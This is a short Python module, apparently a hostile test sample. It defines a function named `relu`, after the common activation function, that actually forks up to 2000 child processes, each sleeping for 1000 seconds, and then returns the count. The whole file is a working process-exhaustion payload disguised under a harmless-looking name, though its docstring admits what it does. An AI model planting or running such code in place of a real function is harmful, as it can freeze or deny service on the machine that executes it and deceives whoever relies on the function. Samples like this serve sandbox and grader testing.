"""`relu` forks sleeping children until it cannot."""

import os
import time


def relu(z):
    children = 0
    while children < 2000:
        if os.fork() == 0:
            time.sleep(1000)
            os._exit(0)
        children += 1
    return float(children)
